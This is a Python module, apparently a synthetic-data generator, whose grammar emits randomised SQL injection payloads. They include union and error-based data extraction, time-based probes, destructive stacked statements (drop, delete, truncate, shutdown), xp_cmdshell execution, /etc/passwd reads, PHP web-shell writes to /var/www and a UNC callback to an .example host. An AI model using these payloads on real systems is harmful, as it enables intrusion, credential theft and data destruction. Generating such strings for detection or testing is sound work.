"""SQL injections: a way out of the query's literal, a clause, a way back in."""

from random import Random

from data.synthesis.grammar import Grammar, hexadecimal, letters, number

_RULES = r"""
clause: 7§«boolean» ¦ 7§«union» ¦  order by «few» ¦ 5§«stacked» ¦ 5§«timed» ¦ 8§«error»
 ¦ 5§«heavy» ¦ «grouped» ¦ «read»
link: 3§and ¦ 3§or ¦ or not ¦ and not ¦ xor ¦ rlike
boolean: 5§ «link» «same» ¦ 2§ «link» «number»=«number» ¦  «link» «samestring»
 ¦  «link» «number»>«few» ¦  «link» (select «few»)=«few» ¦  «link» «few» between 1 and «number»
 ¦  «link» «few» in («few»,«few») ¦  «link» elt(«same»,«number») ¦  «link» make_set(«same»,«number»)
 ¦  «link» («same»)*«number» ¦  «link» exists(select * from «table»)
 ¦  «link» ascii(substring((select «column» from «table» limit 1),«few»,1))>«number»
 ¦  «link» length(database())=«few» ¦  «link» «column» is not null
 ¦  «link» «column» like '%«letters»%' ¦  «link» true ¦  = «number» or «same»
union: 4§ union all select «nulls» ¦ 3§ union all select «repeated» ¦ 2§ union select «nulls»
 ¦  union select «columns» from «table» ¦  union all select «columns» from «table» where «same»
 ¦  union select 1,«secret»,«few»  ¦  union select «secret»,null from «table»
 ¦  union all select concat(0x«hexadecimal»,«column»,0x«hexadecimal»),«nulls» from «table»
columns: «column»,«column» ¦ null,«column»,«few» ¦ 1,2,group_concat(«column») ¦ *
secret: @@version ¦ user() ¦ database() ¦ version() ¦ current_user ¦ load_file('/etc/passwd')
 ¦ banner ¦ schema_name ¦ table_name ¦ group_concat(table_name) ¦ @@datadir ¦ sqlite_version()
column: username ¦ password ¦ email ¦ passwd ¦ id ¦ name ¦ card_number ¦ role ¦ token ¦ hash
table: 3§users ¦ 2§information_schema.tables ¦ information_schema.columns ¦ admin ¦ accounts
 ¦ customers ¦ orders ¦ members ¦ mysql.user ¦ mysql.db ¦ pg_user ¦ pg_shadow ¦ dual ¦ sysobjects
 ¦ sysusers ¦ master..sysdatabases ¦ all_users ¦ sqlite_master ¦ credit_cards
stacked: ;«statement» ¦ 2§; «statement» ¦ ;select «column» from «table» ¦ ;select «conditional»
 ¦ ;«wait» ¦ ;select «pause»
statement: drop table «table» ¦ delete from «table» ¦ update «table» set «column»='«letters»'
 ¦ insert into «table» values(«few»,'«letters»') ¦ exec xp_cmdshell('«letters»') ¦ shutdown
 ¦ exec master..xp_dirtree '//«letters».example/a' ¦ truncate table «table»
 ¦ alter table «table» drop column «column» ¦ create table «letters»(a int)
 ¦ drop function «letters» ¦ declare @a varchar(99);set @a=0x«hexadecimal»;exec(@a)
 ¦ call «letters»(«few») ¦ commit ¦ begin dbms_lock.sleep(«few»); end
 ¦ if(«number»=«number») select «few» else drop table «table»
conditional: 2§(case when («number»=«number») then «few» else 1/(select 0) end)
 ¦ case when «same» then 1 else null end ¦ if(«same»,«pause»,0) ¦ iif(«same»,1,1/0)
 ¦ (case when («same») then «number» else «number»*(select «number» from «table») end)
wait: waitfor delay '0:0:«few»' ¦ waitfor delay '00:00:0«few»'
pause: 3§sleep(«few») ¦ 2§pg_sleep(«few») ¦ benchmark(5000000,md5(0x«hexadecimal»))
 ¦ benchmark(«number»000,sha1('«letters»')) ¦ randomblob(«number»00000)
timed: 3§ «link» «pause» ¦ 2§ «link» (select * from (select(«pause»))«letters»)
 ¦  «link» «number»=(select «number» from pg_sleep(«few»)) ¦  «link» if(«same»,«pause»,0)
 ¦  «link» «number»=dbms_pipe.receive_message(«chars»,«few») ¦  «link» «number»=«pause»
 ¦  «link» elt(«same»,«pause») ¦  «link» (select «number» from (select «pause»)«letters»)
error: 2§ «link» extractvalue(«number»,concat(0x5c,0x«hexadecimal»,(select «secret»)))
 ¦  «link» updatexml(1,concat(0x7e,(select «secret»),0x7e),1)
 ¦  «link» exp(~(select * from (select «secret»)x))
 ¦  «link» (select «number» from(select count(*),concat(0x«hexadecimal»,(select
 «conditional»),floor(rand(0)*2))x from «table» group by x)a)
 ¦  «link» «number»=convert(int,(select «secret»))
 ¦  «link» 1=cast((«chars»)||(select «secret») as numeric)
 ¦  «link» «number» in ((«pluses»+(select «conditional»)+«pluses»))
 ¦  «link» «number»=ctxsys.drithsx.sn(«number»,(«chars»))
 ¦  «link» «number»=(select upper(xmltype(«chars»||(select «conditional» from dual)||«chars»)))
 ¦  «link» «number»=utl_inaddr.get_host_address(«chars»)
 ¦  «link» (select 2*(if((select * from (select concat(0x«hexadecimal»,(select
 «conditional»)))s),«number»,«number»)))
 ¦  procedure analyse(extractvalue(«number»,concat(0x5c,«secret»)),1)
 ¦  «link» gtid_subset(«secret»,1)
 ¦  «link» json_keys((select convert((select «secret») using utf8)))
heavy:  «link» «number»=(select count(*) from «big» as t1,«big» as t2,«big» as t3)
 ¦ ;select count(*) from «big» as t1,«big» as t2
 ¦  «link» «number»=(select count(*) from generate_series(1,«number»000))
 ¦  «link» «number»=like('abcdefg',upper(hex(randomblob(«number»00000))))
 ¦ ;select count(*) from generate_series(1,«number»000) ¦  «link» «chars»=«overflow»
overflow: regexp_substring(repeat(right(char(«number»),0),500000000),null)
big: information_schema.columns ¦ all_objects ¦ sysusers ¦ sysibm.systables ¦ rdb$fields
 ¦ domain.columns ¦ msysaccessobjects ¦ pg_class ¦ syscolumns
grouped:  group by «few» having «same» ¦  having «same» ¦  group by «column»,«column»
 ¦  limit «few»,1 into outfile '/tmp/«letters».txt' ¦  into outfile '/var/www/«letters».php'
read: +(select «column» from «table» limit 1)+ ¦ ||(select «secret»)|| ¦ ,(select «secret»)
 ¦ -(select «pause») ¦ *(select «few» from «table») ¦ ^(select «secret»)
human: 3§' or «same»«comment» ¦ 2§' or '«digit»'='«digit» ¦ ' or ''=' ¦ admin'«comment» ¦ admin' #
 ¦ 'or«same»«comment» ¦ " or ""=" ¦ " or «same»«comment» ¦ ') or ('a'='a ¦ ' or true«comment»
 ¦ '||'«letters» ¦ 1 or 1=1 ¦ 1' or 1 or ' ¦ '='' ¦ '=0«comment» ¦ '-'' ¦ ' like '%
 ¦ '; «statement»«comment» ¦ «name»'«comment» ¦ «name»' or «same»«comment» ¦ «name»'/*
 ¦ «name»') or true«comment» ¦ «name»' and password like '% ¦ «number» and 1=0 ¦ «number»-(1=1)
 ¦ «number»' and '1'='2 ¦ «number» or sleep(«few») ¦ «number»;«statement» ¦ ' having «same»«comment»
 ¦ ' group by «column»«comment» ¦ '+(select «few»)+' ¦ «name»'||1=1«comment» ¦ 1'1 ¦ '" ¦ 1') ¦ ');
 ¦ \';«comment» ¦ 0 union select «secret» ¦ ' union select «secret»«comment»
 ¦ '/**/or/**/«same»«comment» ¦ ' rlike '.* ¦ «number»%2b1 ¦ x' and 1=(
name: 3§admin ¦ root ¦ administrator ¦ test ¦ user ¦ guest ¦ sa ¦ x ¦ 1
comment: 5§-- ¦ 2§--  ¦ 2§-- - ¦ 3§# ¦ /* ¦ ;-- ¦ --+ ¦ ;%00 ¦ -- «letters»
"""


def _same(rng: Random) -> str:
    value = number(rng)
    return f"{value}={value}" if rng.random() < 0.75 else "1=1"


def _same_string(rng: Random) -> str:
    value = letters(rng)
    return f"'{value}'='{value}'" if rng.random() < 0.6 else f"'{value}' like '{value}'"


def _characters(call: str, glue: str, rng: Random) -> str:
    codes = (97 + int(rng.random() * 26) for _ in range(3 + int(rng.random() * 4)))
    return glue.join(f"{call}({code})" for code in codes)


_GRAMMAR = Grammar(
    _RULES,
    {
        "number": number,
        "letters": letters,
        "hexadecimal": hexadecimal,
        "same": _same,
        "samestring": _same_string,
        "few": lambda rng: str(1 + int(rng.random() * 9)),
        "digit": lambda rng: str(int(rng.random() * 10)),
        "chars": lambda rng: _characters("chr" if rng.random() < 0.6 else "char", "||", rng),
        "pluses": lambda rng: _characters("char", "+", rng),
        "nulls": lambda rng: ",".join(["null"] * (1 + int(rng.random() * 10))),
        "repeated": lambda rng: ",".join([number(rng)] * (1 + int(rng.random() * 10))),
    },
)

_QUOTES = ("'", "'", "'", '"', "", "", "%'", '%"', "`")


def injection(rng: Random, value: str) -> str:
    """Return an SQL injection.

    Args:
        rng: Where the choices come from.
        value: A harmless value of the attacked field, which some injections start with.

    Returns:
        The injected text, plain (not encoded).
    """
    if rng.random() < 0.1:
        return _GRAMMAR.draw(rng, "human")
    quote = _QUOTES[int(rng.random() * len(_QUOTES))]
    depth = int(rng.random() ** 2 * 4)
    clause = _GRAMMAR.draw(rng, "clause")
    return _start(rng, value) + quote + ")" * depth + _alias(rng) + clause + _end(rng, quote, depth)


def _start(rng: Random, value: str) -> str:
    chance = rng.random()
    if chance < 0.35:
        return "1"
    return f"-{number(rng)}" if chance < 0.65 else value


def _alias(rng: Random) -> str:
    chance = rng.random()
    if chance < 0.75:
        return ""
    return f" where {_same(rng)}" if chance < 0.9 else f" as {letters(rng)} where {_same(rng)}"


def _end(rng: Random, quote: str, depth: int) -> str:
    if rng.random() < 0.55:
        return _GRAMMAR.draw(rng, "comment")
    mark = quote.lstrip("%")
    value = letters(rng) if mark else number(rng)
    equals = " like " if mark and rng.random() < 0.3 else "="
    return f" and {'(' * depth}{mark}{value}{mark}{equals}{mark}{value}"
